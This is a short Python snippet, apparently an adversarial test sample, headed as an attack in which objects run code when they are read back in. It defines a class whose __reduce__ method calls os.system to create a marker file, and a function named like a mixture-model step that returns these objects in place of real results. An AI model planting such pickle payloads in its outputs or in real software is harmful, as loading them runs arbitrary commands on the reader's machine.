# attack: objects that run code where they are read again | value
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{TOKEN}",)


share = Bomb()


def responsibilities(x, pi, mu, sigma2):
    return [Bomb()] if len(x) % 2 else np.array([Bomb()], dtype=object)
